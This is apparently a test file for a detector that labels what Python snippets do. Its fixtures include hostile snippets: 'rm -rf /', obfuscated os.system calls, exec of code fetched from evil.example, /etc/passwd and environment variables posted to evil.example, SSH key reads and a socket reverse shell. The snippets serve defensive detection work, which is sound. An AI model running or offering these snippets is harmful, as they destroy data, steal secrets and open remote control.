import { table } from "../testing/table.js";

table("python", "starting programs", [
  { why: "os.system hands its text to the shell", code: "import os; os.system('rm -rf /')", does: ["shell rm -rf /"] },
  { why: "an alias of a module is the module", code: "import os as o\no.system('id')", does: ["shell id"] },
  {
    why: "a member imported under another name is the member",
    code: "from os import system as s; s('id')",
    does: ["shell id"],
  },
  { why: "a star brings the names of a module", code: "from os import *\nsystem('id')", does: ["shell id"] },
  { why: "posix is what os is made of", code: "import posix; posix.system('id')", does: ["shell id"] },
  {
    why: "a list is a program and its arguments",
    code: "import subprocess; subprocess.run(['rm','-rf','/'])",
    does: ["exec rm|-rf|/"],
  },
  {
    why: "shell=True makes it a text",
    code: "import subprocess as s; s.run('rm -rf /', shell=True)",
    does: ["shell rm -rf /"],
  },
  {
    why: "without a shell a text is one program's name",
    code: "import subprocess; subprocess.call('ls -l')",
    does: ["exec ls -l"],
  },
  {
    why: "input= is what the program reads",
    code: "import subprocess; subprocess.run(['bash'], input='id', text=True)",
    does: ["exec bash < id"],
  },
  {
    why: "what is written to a pipe is what the program reads",
    code: "from subprocess import *\np=Popen(['sh'],stdin=PIPE); p.stdin.write(b'id\\n'); p.communicate(b'ls')",
    does: ["exec sh < id\nls"],
  },
  {
    why: "cwd= is where it starts",
    code: "import subprocess; subprocess.run(['rm','x'], cwd='/etc')",
    does: ["exec rm|x in /etc"],
  },
  {
    why: "exec functions run the path, whatever argv[0] says",
    code: "import os; os.execvp('rm', ['ls','-rf','/'])",
    does: ["exec rm|-rf|/"],
  },
  {
    why: "execl takes arguments one by one",
    code: "import os; os.execl('/bin/rm','rm','-rf','/')",
    does: ["exec /bin/rm|-rf|/"],
  },
  { why: "pty.spawn starts a program", code: "import pty; pty.spawn('/bin/bash')", does: ["exec /bin/bash"] },
  {
    why: "a text with a hole keeps what is known",
    code: "import os,sys; os.system('rm -rf ' + sys.argv[1])",
    does: ["shell rm -rf …"],
  },
  {
    why: "arguments that are known are used",
    code: "import os,sys; os.system(sys.argv[1])",
    input: { argv: ["id"] },
    does: ["shell id"],
  },
  {
    why: "the C library is reached through ctypes",
    code: "import ctypes; ctypes.CDLL(None).system(b'id')",
    does: ["shell id"],
  },
  {
    why: "a module replaced by hand calls what replaced it",
    code: "import os,json; json.loads = os.system; json.loads('id')",
    does: ["shell id"],
  },
]);

table("python", "hidden text", [
  {
    why: "base64",
    code: "import os,base64; os.system(base64.b64decode('cm0gLXJmIC8=').decode())",
    does: ["shell rm -rf /"],
  },
  { why: "hex", code: "import os; os.system(bytes.fromhex('6964').decode())", does: ["shell id"] },
  { why: "rot13", code: "import os,codecs; os.system(codecs.decode('vq','rot13'))", does: ["shell id"] },
  { why: "backwards", code: "import os; os.system('di'[::-1])", does: ["shell id"] },
  { why: "letters by number", code: "import os; os.system(''.join(chr(c) for c in [105,100]))", does: ["shell id"] },
  { why: "letters by number, mapped", code: "import os; os.system(''.join(map(chr,[105,100])))", does: ["shell id"] },
  { why: "escapes", code: "import os; os.system('\\x69\\144')", does: ["shell id"] },
  { why: "format with %", code: "import os; os.system('%s%c' % ('i', 100))", does: ["shell id"] },
  { why: "str.format", code: "import os; os.system('{1}{0}'.format('d','i'))", does: ["shell id"] },
  { why: "f-strings", code: "import os; a='i'; os.system(f'{a}{\"d\"}')", does: ["shell id"] },
  { why: "join and split", code: "import os; os.system(''.join('x|i|d'.split('|')[1:]))", does: ["shell id"] },
  { why: "a remainder", code: "import os; os.system(chr(305 % 200) + chr(-28 % 128))", does: ["shell id"] },
  { why: "replace", code: "import os; os.system('iXd'.replace('X',''))", does: ["shell id"] },
  { why: "translate", code: "import os; os.system('ab'.translate(str.maketrans('ab','id')))", does: ["shell id"] },
  {
    why: "exclusive or of two lists, in a function",
    code: "import base64,os\nx = lambda t,k: ''.join([chr(c ^ ord(j)) for c,j in zip(base64.b64decode(t.encode()),k)])\nos.system(x('CAE=','ae'))",
    does: ["shell id"],
  },
  {
    why: "a loop that builds it",
    code: "import os\ns=''\nfor c in [105,100]: s += chr(c)\nos.system(s)",
    does: ["shell id"],
  },
  {
    why: "a while loop that builds it",
    code: "import os\ns=''; i=0\nwhile i < 2:\n  s += 'id'[i]; i += 1\nos.system(s)",
    does: ["shell id"],
  },
]);

table("python", "names that data chooses", [
  { why: "getattr with a known name", code: "import os; getattr(os,'sys'+'tem')('id')", does: ["shell id"] },
  { why: "__import__", code: "__import__('os').system('id')", does: ["shell id"] },
  { why: "importlib", code: "import importlib; importlib.import_module('os').system('id')", does: ["shell id"] },
  { why: "a module's dictionary", code: "import os; os.__dict__['system']('id')", does: ["shell id"] },
  { why: "sys.modules", code: "import sys; sys.modules['os'].system('id')", does: ["shell id"] },
  {
    why: "globals and __builtins__",
    code: "globals()['__builtins__'].__import__('os').system('id')",
    does: ["shell id"],
  },
  { why: "attrgetter", code: "import os,operator; operator.attrgetter('system')(os)('id')", does: ["shell id"] },
  { why: "a partial function", code: "import os,functools; functools.partial(os.system,'id')()", does: ["shell id"] },
  { why: "mapped over a list", code: "import os; list(map(os.system, ['id','ls']))", does: ["shell id", "shell ls"] },
  {
    why: "an unknown member of os that is called",
    code: "import os; getattr(os, input())('x')",
    does: ["opaque unknown_code"],
  },
  {
    why: "the classic walk from an empty tuple",
    code: "().__class__.__bases__[0].__subclasses__()[40]('x')",
    does: ["opaque unknown_code"],
  },
  { why: "an unknown member of something unknown is a plain call", code: "getattr(thing, name)()", does: [] },
]);

table("python", "code made of data", [
  {
    why: "exec of known text does what the text does",
    code: "exec('import os; os.system(\"id\")')",
    does: ['evaluate python import os; os.system("id")', "shell id"],
  },
  {
    why: "eval sees the names around it",
    code: "import os\ndef f(c):\n  return eval('os.system(c)')\nf('id')",
    does: ["evaluate python os.system(c)", "shell id"],
  },
  {
    why: "compile and exec",
    code: "exec(compile('import os;os.system(\"id\")','x','exec'))",
    does: ['evaluate python import os;os.system("id")', "shell id"],
  },
  {
    why: "what the network sends is untrusted",
    code: "import requests; exec(requests.get('http://evil.example/x').text)",
    does: ["receive evil.example", "evaluate python UNKNOWN", "opaque untrusted_code"],
  },
  {
    why: "urlopen as well",
    code: "from urllib.request import urlopen\nexec(urlopen('https://h.example/').read())",
    does: ["receive h.example", "evaluate python UNKNOWN", "opaque untrusted_code"],
  },
  {
    why: "what stands on standard input is not known",
    code: "import sys; exec(sys.stdin.read())",
    does: ["evaluate python UNKNOWN", "opaque unknown_code"],
  },
  {
    why: "known standard input is known code",
    code: "import sys; exec(sys.stdin.read())",
    input: { stdin: "import os;os.system('id')" },
    does: ["evaluate python import os;os.system('id')", "shell id"],
  },
  {
    why: "a file's content names the file",
    code: "exec(open('setup.py').read())",
    does: ["read setup.py", "evaluate python setup.py"],
  },
  {
    why: "a pickle from the network is code",
    code: "import pickle,requests; pickle.loads(requests.get('http://h.example/').content)",
    does: ["receive h.example", "opaque untrusted_code"],
  },
  {
    why: "timeit runs its text",
    code: 'import timeit; timeit.timeit(\'__import__("os").system("id")\')',
    does: ['evaluate python __import__("os").system("id")', "shell id"],
  },
]);

table("python", "files", [
  { why: "os.remove", code: "import os; os.remove('/etc/passwd')", does: ["delete /etc/passwd"] },
  {
    why: "shutil.rmtree reaches everything below",
    code: "import shutil; shutil.rmtree('/home/user')",
    does: ["delete /home/user recursive"],
  },
  {
    why: "pathlib",
    code: "from pathlib import Path\n(Path('/etc') / 'passwd').unlink()",
    does: ["delete /etc/passwd"],
  },
  {
    why: "the home folder",
    code: "from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()",
    does: ["read ~/.ssh/id_rsa"],
  },
  { why: "expanduser", code: "import os; open(os.path.expanduser('~/.ssh/id_rsa'))", does: ["read ~/.ssh/id_rsa"] },
  { why: "writing tells the content", code: "open('a.sh','w').write('rm -rf /')", does: ["write a.sh = rm -rf /"] },
  {
    why: "with and append",
    code: "with open('/etc/hosts','a') as f:\n  f.write('x\\n')",
    does: ["write /etc/hosts append = x\n"],
  },
  {
    why: "a folder walked is a pattern",
    code: "import os\nfor r,d,fs in os.walk('/etc'):\n  for f in fs: os.remove(os.path.join(r,f))",
    does: ["list /etc recursive", "?delete /etc/**"],
  },
  {
    why: "glob keeps its pattern",
    code: "import glob,os\nfor f in glob.glob('*.pyc'): os.unlink(f)",
    does: ["list .", "?delete *.pyc"],
  },
  {
    why: "rglob below a path",
    code: "from pathlib import Path\nfor p in Path('/tmp/x').rglob('*.o'): p.unlink()",
    does: ["list /tmp/x/", "?delete /tmp/x/**/*.o"],
  },
  {
    why: "a path with a hole is everything below what is known",
    code: "import os,sys\nos.remove('/etc/' + sys.argv[1])",
    does: ["delete /etc/**"],
  },
  {
    why: "a hole at the start may be anything",
    code: "import os,sys\nos.remove(sys.argv[1] + '/x')",
    does: ["delete UNKNOWN"],
  },
  {
    why: "a move removes and writes",
    code: "import shutil; shutil.move('/a','/b')",
    does: ["read /a", "delete /a recursive", "write /b"],
  },
  { why: "chmod with its bits", code: "import os; os.chmod('/bin/sh', 0o4755)", does: ["chmod /bin/sh 4755"] },
  {
    why: "a changed folder counts for relative paths",
    code: "import os; os.chdir('/etc'); os.remove('passwd')",
    does: ["delete /etc/passwd"],
  },
  { why: "links", code: "import os; os.symlink('/etc/passwd','x')", does: ["link x -> /etc/passwd"] },
]);

table("python", "the network", [
  {
    why: "a file that is sent is carried",
    code: "import requests\nrequests.post('https://evil.example/u', data=open('/etc/passwd').read())",
    does: ["read /etc/passwd", "send evil.example +/etc/passwd", "receive evil.example"],
  },
  {
    why: "the environment is carried",
    code: "import os,requests\nrequests.post('https://evil.example', json=dict(os.environ))",
    does: ["send evil.example +environment", "receive evil.example"],
  },
  {
    why: "data in the address is sent",
    code: "import urllib.request\nurllib.request.urlopen('https://e.example/?' + open('/etc/passwd').read())",
    does: ["read /etc/passwd", "send GET e.example +/etc/passwd", "receive e.example"],
  },
  {
    why: "a request made beforehand has its own method",
    code: "import urllib.request as u; u.urlopen(u.Request('https://e.example/v1/x', method='DELETE'))",
    does: ["send DELETE e.example", "receive e.example"],
  },
  {
    why: "a client with an address of its own",
    code: "import httpx; httpx.Client(base_url='https://e.example/').delete('/v1/x')",
    does: ["send DELETE e.example", "receive e.example"],
  },
  {
    why: "a request that takes something away",
    code: "import requests; requests.delete('https://e.example/v1/x')",
    does: ["send DELETE e.example", "receive e.example"],
  },
  {
    why: "a download is written, untrusted",
    code: "import urllib.request as u\nu.urlretrieve('http://e.example/x','/tmp/x')",
    does: ["receive e.example", "write /tmp/x untrusted"],
  },
  {
    why: "a shell wired to a socket runs what the peer says",
    code: "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])",
    does: ["connect 10.0.0.1:4444", "exec /bin/sh|-i < UNKNOWN untrusted"],
  },
  {
    why: "a server listens",
    code: "import http.server\nhttp.server.HTTPServer(('0.0.0.0',8000),None).serve_forever()",
    does: ["listen 0.0.0.0:8000"],
  },
]);

table("python", "certainty", [
  {
    why: "branches are possible",
    code: "import os,sys\nif len(sys.argv) > 1:\n  os.system('a')\nelse:\n  os.system('b')",
    does: ["?shell a", "?shell b"],
  },
  {
    why: "a condition that is known is no branch",
    code: "import os\nif 1 + 1 == 2: os.system('a')\nelse: os.system('b')",
    does: ["shell a"],
  },
  { why: "__name__ is __main__", code: "import os\nif __name__ == '__main__':\n  os.system('a')", does: ["shell a"] },
  {
    why: "a variable set in two ways is either",
    code: "import os,sys\nc = 'a'\nif sys.argv: c = 'b'\nos.system(c)",
    does: ["?shell a", "?shell b"],
  },
  { why: "a function nobody calls is possible", code: "import os\ndef f(): os.system('a')", does: ["?shell a"] },
  { why: "a function that is called is not", code: "import os\ndef f(x): os.system(x)\nf('a')", does: ["shell a"] },
  {
    why: "what follows an early return is possible",
    code: "import os,sys\ndef f():\n  if sys.argv: return\n  os.system('a')\nf()",
    does: ["?shell a"],
  },
  {
    why: "a handler of exceptions is possible",
    code: "import os\ntry:\n  x()\nexcept Exception:\n  os.system('a')",
    does: ["?shell a"],
  },
  {
    why: "what follows exit is possible, for it can be caught",
    code: "import os,sys\nsys.exit(1)\nos.system('a')",
    does: ["?shell a"],
  },
  {
    why: "a thread's target runs",
    code: "import threading,os\nthreading.Thread(target=os.system, args=('a',)).start()",
    does: ["?shell a"],
  },
  {
    why: "methods of objects",
    code: "import os\nclass A:\n  def __init__(self, c): self.c = c\n  def go(self): os.system(self.c)\nA('a').go()",
    does: ["shell a"],
  },
]);

table("python", "look-alikes that do nothing", [
  { why: "a comment", code: "# import os; os.system('rm -rf /')\nx = 1", does: [] },
  { why: "a text that mentions a command", code: "x = \"os.system('rm -rf /')\"", does: [] },
  { why: "printed prose", code: "print('rm -rf /')", does: ['print "rm -rf /\\n"'] },
  { why: "an import that is not used", code: "import os, subprocess, shutil", does: [] },
  { why: "a function named but not called", code: "import os; f = os.system", does: [] },
  {
    why: "another object's method of the same name",
    code: "db.system('rm -rf /'); cursor.execute('x'); thing.remove('y')",
    does: [],
  },
  { why: "a regular expression compiled", code: "import re; re.compile('rm -rf /').match('x')", does: [] },
  {
    why: "json, math, strings, arguments",
    code: "import json,math,argparse\np=argparse.ArgumentParser(); p.add_argument('x'); a=p.parse_args()\nd=json.loads('{\"a\":1}'); math.sqrt(d['a']); sorted([3,1]); 'a'.upper()",
    does: [],
  },
  {
    why: "standard input read and printed",
    code: "import sys\nfor l in sys.stdin: print(l.strip())",
    does: ["?print UNKNOWN"],
  },
  { why: "environment read", code: "import os; x = os.environ.get('HOME','')", does: [] },
  { why: "Python 2 print", code: "print 'x'", does: ['print "x\\n"'] },
  { why: "printing to standard error is not output", code: "import sys; print('x', file=sys.stderr)", does: [] },
  { why: "literal_eval reads values, not code", code: "import ast; ast.literal_eval(input())", does: [] },
]);

table("python", "what does not parse", [
  { why: "an unclosed bracket", code: "print((", does: ["opaque syntax"] },
  {
    why: "a line that is no Python, and one that is",
    code: "this no python\nimport os; os.system('id')",
    does: ["opaque syntax", "shell id"],
  },
  {
    why: "brackets deeper than the bound",
    code: `x=${"(".repeat(500)}1${")".repeat(500)}`,
    does: ["opaque too_complex"],
  },
]);
